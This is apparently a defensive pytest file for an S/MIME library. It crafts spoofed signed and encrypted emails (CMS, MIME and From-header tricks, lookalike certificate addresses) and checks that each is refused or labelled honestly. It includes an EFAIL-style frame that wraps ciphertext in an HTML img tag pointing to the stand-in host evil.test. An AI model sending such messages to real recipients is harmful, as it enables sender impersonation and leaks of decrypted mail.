"""Messages made to seem signed by, or readable to, others than they are: each with its verdict, word for word.

Most follow "Johnny, you are fired" (Müller and others, USENIX Security 2019: attacks by CMS, MIME and identity) and
EFAIL (Poddebniak and others, USENIX Security 2018). Eve has a certificate of the same authority, letters that Ada
signed, and a text editor.
"""

from __future__ import annotations

import dataclasses
from collections.abc import Callable

import msgspec
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID
from tests.trust.smime.conftest import People

from letterlock.formats.asn1 import oids
from letterlock.formats.cms import content, enveloped
from letterlock.formats.cms import signed as signed_format
from letterlock.formats.cms.enveloped import EnvelopedData
from letterlock.formats.cms.signed import SignedData
from letterlock.formats.imf.header import read_header
from letterlock.formats.mime.transfer import encode_base64
from letterlock.formats.x509.certificate import Certificate
from letterlock.formats.x509.name import Name
from letterlock.trust.pkix import issue
from letterlock.trust.pkix.issue import Authority
from letterlock.trust.primitives import ciphers, key_pairs
from letterlock.trust.smime import protect
from letterlock.trust.smime.encrypt import To, encrypt
from letterlock.trust.smime.entities import wrap
from letterlock.trust.smime.proof import Proof, prove
from letterlock.trust.smime.sign import Signer, sign
from letterlock.trust.smime.unwrap import unwrap

ADA = "Ada <ada@rosewood.test>"
_HEAD = "From: {}\r\nTo: bob@rosewood.test\r\nSubject: Plans\r\nMIME-Version: 1.0\r\n"
NOON = b"Content-Type: text/plain\r\n\r\nAt noon.\r\n"
PAY = b"Content-Type: text/html\r\n\r\n<p>Pay at once.<div style=display:none>"
SECRET = b"Content-Type: text/plain\r\n\r\nthe secret\r\n"


class Studio:
    """What Eve has, and what she makes of it."""

    def __init__(self) -> None:
        self.people = People()
        self.now = self.people.now

    def letter(self, author: str = ADA) -> bytes:
        return _HEAD.format(author).encode() + NOON

    def signed(self, who: str = "ada", author: str = ADA, *, by: Signer | None = None, **options: object) -> bytes:
        """A letter signed by `who`, which says it is from `author`."""
        signer = by or self.people.named(who).signer
        return protect.sign_message(self.letter(author), (signer,), self.now, token="t", **options)  # type: ignore[arg-type]

    def part(self) -> bytes:
        """Ada's signed letter as a part."""
        return self.signed().split(b"MIME-Version: 1.0\r\n", 1)[1]

    def cms(self, who: str = "ada", octets: bytes = NOON, **options: object) -> bytes:
        return sign(octets, (self.people.named(who).signer,), self.now, **options)  # type: ignore[arg-type]

    def put_together(self, entity: bytes, cms: bytes) -> bytes:
        """A multipart/signed made by hand."""
        return (
            b'From: ada@rosewood.test\r\nMIME-Version: 1.0\r\nContent-Type: multipart/signed; boundary=s;\r\n'
            b' protocol="application/pkcs7-signature"\r\n\r\n--s\r\n' + entity
            + b"\r\n--s\r\nContent-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + encode_base64(cms) + b"\r\n--s--\r\n"
        )  # fmt: skip

    def opaque(self, cms: bytes) -> bytes:
        return wrap(b"From: ada@rosewood.test\r\n", cms, "signed-data")

    def mixed(self, *parts: bytes, kind: str = "mixed") -> bytes:
        head = f"From: {ADA}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/{kind}; boundary=m\r\n\r\n".encode()
        return head + b"".join(b"--m\r\n" + part + b"\r\n" for part in parts) + b"--m--\r\n"

    def empty(self, octets: bytes | None) -> bytes:
        """A SignedData with Ada's certificate and nobody's signature."""
        return signed_format.encode(oids.DATA, octets, (), (self.people.named("ada").certificate.octets,))

    def certified(self, authority: Authority, *addresses: str) -> Signer:
        """A signer with a fresh certificate of `authority`."""
        key = key_pairs.generate("p256")
        made = issue.certify(
            authority, key.public, Name.make(CN="Ada"), addresses, issue.usages_of(key.public), when=self.now, days=5,
            serial=self.people.named("ada").certificate.serial,
        )  # fmt: skip
        return Signer(key, made)

    def named_without_address(self) -> Signer:
        """A signer whose certificate of the real authority has the address for a common name, and nowhere else."""
        key = ec.generate_private_key(ec.SECP256R1())
        authority = x509.load_der_x509_certificate(self.people.authority.certificate.octets)
        builder = x509.CertificateBuilder(
            authority.subject, x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "ada@rosewood.test")]),
            key.public_key(), 7, self.now, self.now.replace(year=self.now.year + 1),
        )  # fmt: skip
        made = builder.sign(self.people.authority.key.key, hashes.SHA256())  # type: ignore[arg-type]
        return Signer(key_pairs.wrap(key), Certificate.parse(made.public_bytes(Encoding.DER)))

    def pretender(self) -> Authority:
        """An authority of Eve's own, with the name of the real one."""
        return issue.found(key_pairs.generate("p256"), self.people.authority.certificate.subject, self.now, 10, 5)

    def leaf_as_authority(self) -> Authority:
        eve = self.people.named("eve")
        return dataclasses.replace(self.people.authority, key=eve.key, certificate=eve.certificate)

    def sealed(self, letter: bytes, cipher: str = oids.AES256_GCM) -> bytes:
        return protect.encrypt_message(letter, (To(self.people.named("bob").certificate),), cipher=cipher)

    def frame(self, author: str = "eve@rosewood.test") -> bytes:
        """EFAIL: Ada's cipher text between two parts that make an address of it."""
        part = self.sealed(_HEAD.format(ADA).encode() + SECRET).split(b"MIME-Version: 1.0\r\n", 1)[1]
        before = b'Content-Type: text/html\r\n\r\n<img src="http://evil.test/'
        return self.mixed(before, part, b'Content-Type: text/html\r\n\r\n">')

    def several(self, *who: str, spoil: str = "") -> bytes:
        """One SignedData with signatures of several; that of `spoil` does not hold."""
        info = SignedData.parse(content.parse(sign(NOON, tuple(self.people.named(w).signer for w in who), self.now))[1])
        signers = tuple(
            msgspec.structs.replace(each, signature=each.signature[:-1] + bytes((each.signature[-1] ^ 1,)))
            if spoil and each.identifier.names(self.people.named(spoil).certificate) else each
            for each in info.signers
        )  # fmt: skip
        return self.opaque(signed_format.encode(oids.DATA, NOON, signers, info.certificates))

    def attributes_for_content(self) -> bytes:
        """Ada's signed attributes passed off as what she wrote."""
        info = SignedData.parse(content.parse(self.cms())[1]).signers[0]
        bare = msgspec.structs.replace(info, signed_octets=None)
        certificates = (self.people.named("ada").certificate.octets,)
        return self.opaque(signed_format.encode(oids.DATA, info.signed_octets, (bare,), certificates))


def _proof(message: bytes) -> Proof:
    people = People()
    return prove(read_header(message), unwrap(message, people.named("bob").ring), people.trust())


PART = "Only a part of this message is signed; nothing proves who sent the whole."
NOT_SIGNED = "The message is not signed; nothing proves who sent it."
NOT_WHO = "The signature does not prove who sent this message: "
TWO_WAYS = NOT_WHO + "From or Sender can be read in two ways: "
NAME = TWO_WAYS + "a display name that looks like another address."
NO_ADDRESS = TWO_WAYS + "text that is no address."
EVE_NOT_ADA = NOT_WHO + "the certificate is for eve@rosewood.test, the message says it is from ada@rosewood.test."
ENCRYPTED = "The message was encrypted to you, which proves nothing about who sent it: it is not signed."
TWO_FACES = NOT_WHO + "two readers may see different messages: "

Table = dict[str, tuple[Callable[[Studio], bytes], str]]

BY_CMS: Table = {
    "content inside a detached signature": (
        lambda s: s.put_together(PAY, s.cms()),
        "Nothing is proved: a detached signature that brings content of its own at octet 0 (RFC 8551 section 3.5.3.1).",
    ),
    "nobody's signature, clear": (lambda s: s.put_together(PAY, s.empty(None)), NOT_SIGNED),
    "nobody's signature, opaque": (lambda s: s.opaque(s.empty(PAY)), NOT_SIGNED),
    "certificates alone for a signature": (lambda s: s.opaque(s.empty(None)), NOT_SIGNED),
    "the signature of another letter": (
        lambda s: s.put_together(PAY, s.cms(detached=True)),
        NOT_WHO + "the content was changed: its digest is not the one that was signed.",
    ),
    "the attributes for the content": (
        Studio.attributes_for_content, NOT_WHO + "the content is the attributes of another signature.",
    ),
    "more behind the object": (
        lambda s: s.opaque(s.cms() + b"Pay at once."),
        "Nothing is proved: octets after the end of the ContentInfo at octet 0 (RFC 5652 section 3).",
    ),
    "Ada's certificate from an authority that names itself like the real one": (
        lambda s: s.signed(by=s.certified(s.pretender(), "ada@rosewood.test")),
        NOT_WHO + "certificate for CN=Ada: its issuer did not sign it: the signature does not match.",
    ),
    "Ada's certificate made with Eve's": (
        lambda s: s.signed(by=s.certified(s.leaf_as_authority(), "ada@rosewood.test"),
                           certificates=(s.people.named("eve").certificate,)),
        NOT_WHO + "no path leads from CN=Ada (issued by CN=Eve) to a trusted anchor.",
    ),
}  # fmt: skip
BY_MIME: Table = {
    "text before the signed part": (lambda s: s.mixed(PAY, s.part()), PART),
    "text behind the signed part": (lambda s: s.mixed(s.part(), PAY), PART),
    "the signed part hidden in a related one": (lambda s: s.mixed(PAY, s.part(), kind="related"), PART),
    "the signed part as the other alternative": (lambda s: s.mixed(PAY, s.part(), kind="alternative"), PART),
    "the signed letter attached": (
        lambda s: s.mixed(PAY, b"Content-Type: message/rfc822\r\n\r\n" + s.signed()), PART,
    ),
    "nothing but the signed letter attached": (
        lambda s: b"From: ada@rosewood.test\r\nContent-Type: message/rfc822\r\n\r\n" + s.signed(), PART,
    ),
    "the signed part alone in a mixed one": (lambda s: s.mixed(s.part()), PART),
    "another protocol": (
        lambda s: s.signed().replace(b"application/pkcs7-signature", b"application/pgp-signature", 1), NOT_SIGNED,
    ),
    "a type in front of the type": (
        lambda s: s.signed().replace(b"Content-Type:", b"Content-Type: text/html\r\nContent-Type:", 1), NOT_SIGNED,
    ),
    "a type behind the type": (
        lambda s: s.signed().replace(b'boundary="=_t_s"\r\n', b'boundary="=_t_s"\r\nContent-Type: text/html\r\n', 1),
        TWO_FACES + "several Content-Type fields; the first counts.",
    ),
    "a boundary in front of the boundary": (
        lambda s: s.signed().replace(b"boundary=", b"boundary=x; boundary=", 1),
        "Nothing is proved: a multipart/signed of 0 parts at octet 0 (RFC 1847 section 2.1).",
    ),
    "a boundary behind the boundary": (
        lambda s: s.signed().replace(b'boundary="=_t_s"', b'boundary="=_t_s"; boundary=x', 1),
        TWO_FACES + "a parameter given twice; the first counts.",
    ),
    "an encoding on the whole": (
        lambda s: s.signed().replace(b"MIME-Version: 1.0\r\n", b"Content-Transfer-Encoding: base64\r\n", 1),
        TWO_FACES + "a transfer encoding on a multipart or message part.",
    ),
    "a third part": (
        lambda s: s.signed().replace(b"\r\n--=_t_s--", b"\r\n--=_t_s\r\n" + PAY + b"\r\n--=_t_s--", 1),
        "Nothing is proved: a multipart/signed of 3 parts at octet 0 (RFC 1847 section 2.1).",
    ),
    "signature first, text second": (
        lambda s: s.put_together(b"Content-Type: application/pkcs7-signature\r\n\r\nMAA=", b"").replace(
            b"Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n", PAY),
        "Nothing is proved: a multipart/signed whose second part is no CMS signature at octet 0 (RFC 8551 section 3.5.3).",
    ),
    "no line between header and text": (
        lambda s: s.signed().replace(b"Subject: Plans\r\n", b"Subject: Plans\r\nPay at once.\r\n", 1), NOT_SIGNED,
    ),
}  # fmt: skip
BY_IDENTITY: Table = {
    "Ada's address for a name": (lambda s: s.signed("eve", '"ada@rosewood.test" <eve@rosewood.test>'), NAME),
    "the same in an encoded word": (lambda s: s.signed("eve", "=?utf-8?q?ada=40rosewood.test?= <eve@rosewood.test>"), NAME),
    "the same without quotes": (lambda s: s.signed("eve", "ada@rosewood.test <eve@rosewood.test>"), NO_ADDRESS),
    "Eve's address in a comment": (lambda s: s.signed("eve", "ada@rosewood.test (<eve@rosewood.test>)"), NAME),
    "Ada's address for a group": (lambda s: s.signed("eve", "ada@rosewood.test: eve@rosewood.test;"), NO_ADDRESS),
    "simply from Ada": (lambda s: s.signed("eve"), EVE_NOT_ADA),
    "two From, Eve's first": (lambda s: b"From: eve@rosewood.test\r\n" + s.signed("eve"), NOT_WHO + "2 From fields."),
    "two From, Eve's second": (
        lambda s: s.signed("eve").replace(b"To: ", b"From: eve@rosewood.test\r\nTo: ", 1), NOT_WHO + "2 From fields.",
    ),
    "a From with a space before its colon": (
        lambda s: b"From : ada@rosewood.test\r\n" + s.signed("eve", "eve@rosewood.test"), NOT_WHO + "2 From fields.",
    ),
    "a From behind a bare carriage return": (
        lambda s: b"X: y\rFrom: ada@rosewood.test\r\n" + s.signed("eve", "eve@rosewood.test"),
        TWO_WAYS + "a CR stands without LF.",
    ),
    "a From with a null octet": (
        lambda s: s.signed("eve", "ada@rosewood.test\0 <eve@rosewood.test>"), TWO_WAYS + "an octet of value zero.",
    ),
    "two Senders": (
        lambda s: b"Sender: eve@rosewood.test\r\nSender: ada@rosewood.test\r\n" + s.signed("eve"),
        NOT_WHO + "2 Sender fields.",
    ),
    "two authors and no Sender": (
        lambda s: s.signed("eve", "ada@rosewood.test, eve@rosewood.test"), TWO_WAYS + "more than one author address.",
    ),
    "no From": (
        lambda s: s.signed("eve").replace(b"From: Ada <ada@rosewood.test>\r\n", b"", 1),
        NOT_WHO + "the certificate is for eve@rosewood.test, the message says it is from nobody.",
    ),
    "a certificate with the address for a common name alone": (
        lambda s: s.signed(by=s.named_without_address()),
        NOT_WHO + "the certificate is for no address at all, the message says it is from ada@rosewood.test.",
    ),
    "a certificate with a null octet behind the address": (
        lambda s: s.signed(by=s.certified(s.people.authority, "ada@rosewood.test\0.evil.test")),
        NOT_WHO + "the certificate is for ada@rosewood.test\\x00.evil.test, the message says it is from ada@rosewood.test.",
    ),
    "a certificate with a letter that folds into another": (
        lambda s: s.signed(by=s.certified(s.people.authority, "\u212a@rosewood.test"), author="k@rosewood.test"),
        NOT_WHO + "the certificate is for \u212a@rosewood.test, the message says it is from k@rosewood.test.",
    ),
    "another From outside than the protected one": (
        lambda s: s.signed("eve", "eve@rosewood.test", protect_header=True).replace(b"From: eve@", b"From: ada@", 1),
        NOT_WHO + "the From outside is not the From that was protected.",
    ),
}  # fmt: skip
BY_CIPHER_TEXT: Table = {
    "cipher text in a frame": (Studio.frame, NOT_SIGNED),
    "changed GCM": (
        lambda s: s.opaque(_changed(encrypt(SECRET, (To(s.people.named("bob").certificate),)))),
        "Nothing is proved: the content does not decrypt: it was changed, or the key is not the right one.",
    ),
    "Ada's cipher text under Eve's name": (lambda s: s.sealed(s.letter("eve@rosewood.test")), ENCRYPTED),
}  # fmt: skip


def _changed(octets: bytes, at: int = -30) -> bytes:
    changed = bytearray(octets)
    changed[at] ^= 1
    return bytes(changed)


REFUSED = {**BY_CMS, **BY_MIME, **BY_IDENTITY, **BY_CIPHER_TEXT}


@pytest.mark.parametrize("name", REFUSED)
def test_is_refused_with_its_reason(name: str) -> None:
    """Not good, and the sentence says why; nothing of the secret is led out."""
    make, sentence = REFUSED[name]
    message = make(Studio())
    proof = _proof(message)
    assert (proof.good, proof.sentence) == (False, sentence)
    assert b"the secret" not in unwrap(message, People().named("bob").ring).content


def _good(who: str, what: str = "the body of this message, not its header", role: str = "") -> str:
    return (
        f"The holder of {who}@rosewood.test's certificate signed {what}, on 2026-11-23 12:00 UTC by their own clock{role}; "
        "the certificate leads to an anchor you trust and may have been revoked, which could not be told: "
        f"no current revocation list speaks about the certificate for CN={who.capitalize()}."
    )


_TOLD: dict[str, tuple[Callable[[Studio], bytes], str, str]] = {
    "Eve as the Sender of Ada's letter": (
        lambda s: b"Sender: eve@rosewood.test\r\n" + s.signed("eve"),
        _good("eve", role=", as its Sender, not as its author"), "",
    ),
    "Eve as one of two authors, and the Sender": (
        lambda s: b"Sender: eve@rosewood.test\r\n" + s.signed("eve", "ada@rosewood.test, eve@rosewood.test"),
        _good("eve", role=", as one of its 2 authors"), "",
    ),
    "Eve signs cipher text she cannot read": (
        lambda s: protect.sign_message(
            s.sealed(s.letter("eve@rosewood.test")), (s.people.named("eve").signer,), s.now, token="t"),
        _good("eve", "this message in its encrypted form, without showing that they knew what is inside"), "",
    ),
    "Ada's signed letter sent on to others": (
        lambda s: s.sealed(s.signed()).replace(b"To: bob@", b"To: chiyo@", 1), _good("ada"), "",
    ),
    "another Subject outside than the protected one": (
        lambda s: s.signed(protect_header=True).replace(b"Subject: Plans", b"Subject: Pay", 1),
        _good("ada", "all of this message, its header included"), "the Subject outside is not the one that was protected",
    ),
    "another To outside than the protected one, encrypted": (
        lambda s: protect.encrypt_message(s.signed(protect_header=True), (To(s.people.named("bob").certificate),),
                                          protect_header=True).replace(b"To: bob@", b"To: chiyo@", 1),
        _good("ada", "all of this message, its header included"), "the To outside is not the one that was protected",
    ),
    "a good signature of Ada beside a bad one of Eve": (
        lambda s: s.several("ada", "eve", spoil="eve"), _good("ada"), "the signature does not match",
    ),
    "text behind the last part, which nobody is shown": (lambda s: s.signed() + PAY, _good("ada"), ""),
}  # fmt: skip


@pytest.mark.parametrize("name", _TOLD)
def test_is_told_for_what_it_is(name: str) -> None:
    """A signature holds, and the sentence (or a warning) says what it does not show."""
    make, sentence, warning = _TOLD[name]
    message = make(Studio())
    proof = _proof(message)
    assert (proof.good, proof.sentence) == (True, sentence), proof.faults
    assert not warning or warning in proof.warnings
    assert b"Pay at once" not in unwrap(message, People().named("bob").ring).content


def test_gcm_rewritten_as_cbc_gives_nothing() -> None:
    """The cipher text of GCM under the name of CBC (RFC 9709 section 1): garbage at best, nothing of the secret."""
    bob = People().named("bob")
    source = EnvelopedData.parse(*content.parse(encrypt(SECRET, (To(bob.certificate),))))
    cipher = ciphers.fresh(oids.AES256_CBC, bytes(16)).encode()
    whole = b"".join(source.pieces())
    for octets in (whole, whole[: len(whole) // 16 * 16]):
        made = enveloped.encode(oids.ENVELOPED_DATA, source.recipients, oids.DATA, cipher, (octets,))
        message = wrap(b"From: ada@rosewood.test\r\n", made, "enveloped-data")
        assert not _proof(message).good
        assert b"secret" not in unwrap(message, bob.ring).content


def test_changed_cbc_is_marked() -> None:
    """EFAIL's gadgets change CBC unseen: what comes out is marked, and proves nothing."""
    bob = People().named("bob")
    sealed = encrypt(SECRET + bytes(64), (To(bob.certificate),), cipher=oids.AES256_CBC)
    message = wrap(b"From: ada@rosewood.test\r\n", _changed(sealed, -60), "enveloped-data")
    proof = _proof(message)
    assert (proof.good, proof.sentence) == (False, ENCRYPTED)
    assert "AES-256-CBC does not show changes: what was decrypted may have been altered" in proof.warnings


def test_a_good_signature_of_eve_does_not_help_a_bad_one_of_ada() -> None:
    """Each signature is judged by itself; which is named first depends on the order in the set."""
    proof = _proof(Studio().several("eve", "ada", spoil="ada"))
    expected = {EVE_NOT_ADA, NOT_WHO + "the signature does not match."}
    assert not proof.good
    assert proof.sentence in expected
    assert {f"{NOT_WHO}{fault}." for fault in proof.faults} == expected
